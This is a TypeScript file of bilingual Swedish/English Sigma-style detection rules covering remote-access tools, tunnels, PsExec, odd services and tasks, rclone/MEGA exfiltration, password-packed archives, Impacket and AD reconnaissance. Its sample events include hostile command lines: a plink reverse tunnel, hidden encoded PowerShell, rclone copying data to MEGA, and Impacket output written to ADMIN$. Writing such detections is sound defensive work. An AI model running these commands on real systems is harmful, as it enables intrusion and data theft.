/** Rules of ways in and on: remote tools, tunnels, services, tasks, data carried out. */
import {
  type OwnDetection,
  rule,
  type SampleEvent,
  say,
  security,
  start,
  system,
} from "./detection.ts";

const system32 = "C:\\Windows\\System32\\";

/** A sign-in to the VPN by Entra ID. */
function vpn(country: string, errorCode: number): SampleEvent {
  return {
    createdDateTime: "2026-11-20T08:00:00Z",
    appDisplayName: "Kommunens VPN",
    userPrincipalName: "anna.ek@kommun.example.se",
    ipAddress: "198.51.100.7",
    location: { countryOrRegion: country },
    status: { errorCode },
  };
}

/** The rules. */
export const remoteDetections: readonly OwnDetection[] = [
  rule({
    number: 60,
    title: say("Ett fjärrstyrningsprogram körs", "A remote control program is run"),
    level: "medium",
    techniques: ["T1219"],
    source: "product: windows, category: process_creation",
    detection: String.raw`
  selection:
    Image|endswith: ['\AnyDesk.exe', '\TeamViewer.exe', '\TeamViewer_Service.exe', '\rustdesk.exe',
      '\ScreenConnect.ClientService.exe', '\AteraAgent.exe', '\SplashtopStreamer.exe',
      '\SRService.exe', '\MeshAgent.exe', '\NinjaRMMAgent.exe', '\Supremo.exe', '\UltraViewer.exe',
      '\ZohoMeeting.exe', '\QuickAssist.exe']
  condition: selection`,
    means: say(
      "Någon utanför kan se och styra datorn. Bedragare och utpressare använder samma " +
        "program som supporten.",
      "Somebody outside may see and control the computer. Fraudsters use the same " +
        "programs as support.",
    ),
    falsePositives: say(
      "Er egen support: tysta det program ni själva använder.",
      "Your own support: silence the program you use yourselves.",
    ),
    firstAction: say(
      "Ring användaren: vem är i andra änden? Är det inte er support, koppla från datorn.",
      "Call the user: who is at the other end? If it is not your support, disconnect the computer.",
    ),
    fires: [[start("C:\\Users\\anna\\Downloads\\AnyDesk.exe", "AnyDesk.exe")]],
    rests: [[start("C:\\Program Files\\Teams\\ms-teams.exe", "ms-teams.exe")]],
  }),
  rule({
    number: 61,
    title: say(
      "En tunnel öppnas ut genom brandväggen",
      "A tunnel is opened out through the firewall",
    ),
    level: "high",
    techniques: ["T1572"],
    source: "product: windows, category: process_creation",
    detection: String.raw`
  name:
    Image|endswith: ['\ngrok.exe', '\chisel.exe', '\frpc.exe', '\ligolo.exe', '\gost.exe']
  cloudflared:
    CommandLine|contains: 'cloudflared'
  cloudflared_and:
    CommandLine|contains: ['tunnel run', 'access tcp', 'tunnel --url', 'service install']
  ssh:
    Image|endswith: ['\ssh.exe', '\plink.exe']
    CommandLine|re: '\s-R\s*\S*\d+:'
  condition: name or (cloudflared and cloudflared_and) or ssh`,
    means: say(
      "Någon utanför kan nå in i nätet genom datorn.",
      "Somebody outside can reach into the network through the computer.",
    ),
    falsePositives: say("Utvecklare. Fråga.", "Developers. Ask."),
    firstAction: say(
      "Avsluta programmet och stäng adressen i brandväggen.",
      "End it and shut the address in the firewall.",
    ),
    fires: [
      [start("C:\\t\\ngrok.exe", "ngrok.exe tcp 3389")],
      [start("C:\\t\\plink.exe", "plink.exe -N -R 9001:127.0.0.1:3389 u@203.0.113.5")],
    ],
    rests: [[start("C:\\Windows\\System32\\OpenSSH\\ssh.exe", "ssh drift@srv-web1")]],
  }),
  rule({
    number: 62,
    title: say(
      "En tjänst installeras på avstånd med PsExec",
      "A service is installed from afar by PsExec",
    ),
    level: "medium",
    techniques: ["T1569.002", "T1021.002"],
    source: "product: windows, service: system",
    detection: String.raw`
  event:
    EventID: 7045
  name:
    ServiceName|contains: ['PSEXESVC', 'PAExec', 'csexec', 'RemCom']
  path:
    ImagePath|contains: ['PSEXESVC', 'PAExec', 'RemComSvc']
  condition: event and (name or path)`,
    means: say(
      "Någon kör kommandon på datorn från en annan.",
      "Somebody runs commands on it from another computer.",
    ),
    falsePositives: say("Drift som använder PsExec.", "Operations that use PsExec."),
    firstAction: say(
      "Från vilken dator? Se inloggningar (4624, typ 3) samma minut.",
      "From which? See sign-ins (4624, type 3) of that minute.",
    ),
    fires: [[system(7045, { ServiceName: "PSEXESVC", ImagePath: "%SystemRoot%\\PSEXESVC.exe" })]],
    rests: [
      [
        system(7045, {
          ServiceName: "Skrivartjänst",
          ImagePath: "C:\\Program Files\\Skrivare\\s.exe",
        }),
      ],
    ],
  }),
  rule({
    number: 63,
    title: say(
      "En tjänst installeras ur en märklig mapp",
      "A service is installed from an odd folder",
    ),
    level: "high",
    techniques: ["T1543.003"],
    source: "product: windows, service: system",
    detection: String.raw`
  event:
    EventID: 7045
  place:
    ImagePath|contains: ['\Users\Public\', '\AppData\', '\Windows\Temp\', '\PerfLogs\', '\Temp\',
      '127.0.0.1\ADMIN$', '\ProgramData\Intel\', 'C:\$Recycle.Bin']
  command:
    ImagePath|contains: ['cmd.exe /c', 'cmd /c', '%COMSPEC%', 'powershell', 'rundll32', 'mshta']
  condition: event and (place or command)`,
    means: say(
      "En tjänst som startar med högsta rättigheter ligger där vem som helst kan skriva, " +
        "eller är ett kommando.",
      "A service that starts with the highest rights lies where anybody can write, or is " +
        "a command.",
    ),
    falsePositives: say(
      "Installationsprogram som packar upp sig i Temp.",
      "Installers that unpack in Temp.",
    ),
    firstAction: say(
      "Stoppa tjänsten, spara filen, skilj datorn från nätet.",
      "Stop it, keep the file, take the computer off the network.",
    ),
    fires: [
      [
        system(7045, {
          ServiceName: "hjälp",
          ImagePath: "%COMSPEC% /c powershell -nop -w hidden -e JABz",
        }),
      ],
    ],
    rests: [
      [
        system(7045, {
          ServiceName: "Backup",
          ImagePath: '"C:\\Program Files\\Backup\\agent.exe"',
        }),
      ],
    ],
  }),
  rule({
    number: 64,
    title: say(
      "En schemalagd aktivitet kör skript ur en märklig mapp",
      "A scheduled task runs a script from an odd folder",
    ),
    level: "high",
    techniques: ["T1053.005"],
    source: "product: windows, service: security",
    detection: String.raw`
  event:
    EventID: [4698, 4702]
  what:
    TaskContent|contains: ['powershell', 'cmd.exe', 'wscript', 'cscript', 'mshta', 'rundll32']
  where:
    TaskContent|contains: ['\AppData\', '\Users\Public\', '\Temp\', '\Downloads\', '-enc',
      'FromBase64String', 'http://', 'https://']
  own:
    TaskName|startswith: '\Microsoft\'
  condition: event and what and where and not own`,
    means: say(
      "Något ska köras igen och igen, även efter omstart.",
      "Something is to run again and again, after restarts too.",
    ),
    falsePositives: say(
      "Egna skript: lägg dem i en skyddad mapp.",
      "Own scripts: keep them in a protected folder.",
    ),
    firstAction: say(
      "Inaktivera aktiviteten och spara filen den kör.",
      "Disable the task and keep the file it runs.",
    ),
    fires: [
      [
        security(4698, {
          TaskName: "\\Uppdatering",
          TaskContent:
            "<Command>powershell</Command><Arguments>-w hidden " +
            "C:\\Users\\Public\\u.ps1</Arguments>",
        }),
      ],
    ],
    rests: [
      [
        security(4698, {
          TaskName: "\\Nattjobb",
          TaskContent: "<Command>D:\\Drift\\natt.cmd</Command>",
        }),
      ],
    ],
  }),
  rule({
    number: 65,
    title: say("Data förs till en molntjänst", "Data are carried to a cloud service"),
    level: "high",
    techniques: ["T1567.002"],
    source: "product: windows, category: process_creation",
    detection: String.raw`
  rclone:
    Image|endswith: '\rclone.exe'
  renamed:
    CommandLine|contains: [' copy ', ' sync ', ' move ']
  renamed_and:
    CommandLine|contains: ['mega:', 'remote:', '--config', '--no-check-certificate', '--transfers']
  renamed_with:
    CommandLine|contains: ['--multi-thread-streams', '--transfers', '--ignore-existing',
      '--auto-confirm', '--bwlimit']
  mega:
    Image|endswith: ['\MEGAcmdServer.exe', '\mega-put.exe', '\megasync.exe']
  condition: rclone or (renamed and renamed_and and renamed_with) or mega`,
    means: say(
      "Program som utpressare använder för att föra ut data före krypteringen.",
      "Programs that extortionists use to carry data out before they encrypt.",
    ),
    falsePositives: say("Egna kopior till moln.", "Your own copies to a cloud."),
    firstAction: say(
      "Avsluta programmet. Hur mycket har gått ut? Se brandväggen.",
      "End it. How much has gone out? See the firewall.",
    ),
    fires: [[start("C:\\PerfLogs\\rclone.exe", "rclone.exe copy E:\\vard mega:v --transfers 20")]],
    rests: [[start(`${system32}Robocopy.exe`, "robocopy E:\\vard F:\\vard /MIR")]],
  }),
  rule({
    number: 66,
    title: say("Filer packas med lösenord", "Files are packed under a password"),
    level: "medium",
    techniques: ["T1560.001"],
    source: "product: windows, category: process_creation",
    detection: String.raw`
  tool:
    Image|endswith: ['\7z.exe', '\7za.exe', '\rar.exe', '\winrar.exe']
  secret:
    CommandLine|contains: [' -p', ' -hp']
  pack:
    CommandLine|contains: [' a ', ' u ']
  condition: tool and secret and pack`,
    means: say(
      "Data samlas ihop så att innehållet inte går att se på vägen ut.",
      "Data are gathered so that they cannot be seen on the way out.",
    ),
    falsePositives: say(
      "Någon som skickar känsliga filer på rätt sätt.",
      "Somebody who sends sensitive files properly.",
    ),
    firstAction: say(
      "Fråga den inloggade vad som packades och vart det ska.",
      "Ask what was packed and where it goes.",
    ),
    fires: [[start("C:\\t\\7z.exe", "7z.exe a -phemligt -mhe C:\\t\\a.7z E:\\social")]],
    rests: [[start("C:\\t\\7z.exe", "7z.exe x a.7z")]],
  }),
  rule({
    number: 67,
    title: say("Kommandon körs på avstånd med Impacket", "Commands are run from afar by Impacket"),
    level: "critical",
    techniques: ["T1047", "T1021.002"],
    source: "product: windows, category: process_creation",
    detection: String.raw`
  shell:
    CommandLine|contains|all: ['cmd.exe', '/Q', '/c']
  back:
    CommandLine|contains: ['\\127.0.0.1\ADMIN$', '\\127.0.0.1\C$', '\\localhost\ADMIN$']
  condition: shell and back`,
    means: say(
      "Ett känt angreppsverktyg styr datorn från en annan i nätet.",
      "A known attack tool controls the computer from another on the network.",
    ),
    falsePositives: say("Penetrationstest.", "A penetration test."),
    firstAction: say(
      "Skilj datorn från nätet. Sök inloggningar (4624, typ 3) samma minut: därifrån " +
        "kommer angriparen.",
      "Take it off the network. See sign-ins (4624, type 3) of that minute: the attacker is there.",
    ),
    fires: [
      [start(`${system32}cmd.exe`, "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__17 2>&1")],
    ],
    rests: [[start(`${system32}cmd.exe`, "cmd.exe /Q /c dir C:\\")]],
  }),
  rule({
    number: 68,
    title: say(
      "Katalogen kartläggs med angreppsverktyg",
      "The directory is mapped by attack tools",
    ),
    level: "high",
    techniques: ["T1087.002", "T1482"],
    source: "product: windows, category: process_creation",
    detection: String.raw`
  name:
    Image|endswith: ['\AdFind.exe', '\SharpHound.exe', '\BloodHound.exe', '\ADRecon.exe',
      '\PingCastle.exe', '\ADExplorer.exe', '\ADExplorer64.exe']
  words:
    CommandLine|contains: ['Invoke-BloodHound', 'objectcategory=person', 'Get-DomainTrust',
      'Invoke-UserHunter', '-subnets -f', 'trustdmp', '--CollectionMethod']
  condition: name or words`,
    means: say(
      "Någon kartlägger konton, grupper och datorer, som man gör före nästa steg.",
      "Somebody maps accounts, groups and computers, as one does before the next step.",
    ),
    falsePositives: say(
      "Er egen granskning, även den som matar Vallgrav.",
      "Your own review, that for Vallgrav too.",
    ),
    firstAction: say(
      "Pågår en granskning? Annars: lås kontot.",
      "Is a review going on? Else lock the account.",
    ),
    fires: [[start("C:\\Users\\Public\\SharpHound.exe", "SharpHound.exe -c All")]],
    rests: [[start(`${system32}nltest.exe`, "nltest /sc_query:kommun")]],
  }),
  rule({
    number: 69,
    title: say("VPN från ett land utanför Norden", "VPN from a country outside the Nordics"),
    level: "medium",
    techniques: ["T1133"],
    source: "product: azure, service: signinlogs",
    detection: `
  app:
    appDisplayName|contains: ['vpn', 'globalprotect', 'fortigate', 'fortinet', 'anyconnect',
      'netscaler', 'citrix', 'zscaler', 'pulse', 'ivanti']
  done:
    ResultType: '0'
  country:
    location.countryOrRegion|re: '^[A-Z]{2}$'
  home:
    location.countryOrRegion: ['SE', 'NO', 'DK', 'FI', 'IS', 'AX']
  condition: app and done and country and not home`,
    means: say(
      "Någon kopplade upp sig mot nätet från utlandet.",
      "Somebody connected to the network from abroad.",
    ),
    falsePositives: say(
      "Resor, och mobiler vars trafik går utomlands.",
      "Travel, and telephones whose traffic goes abroad.",
    ),
    firstAction: say("Ring personen på ett känt nummer.", "Call the person on a known number."),
    fires: [[vpn("RO", 0)]],
    rests: [[vpn("NO", 0)], [vpn("RO", 50126)]],
  }),
];
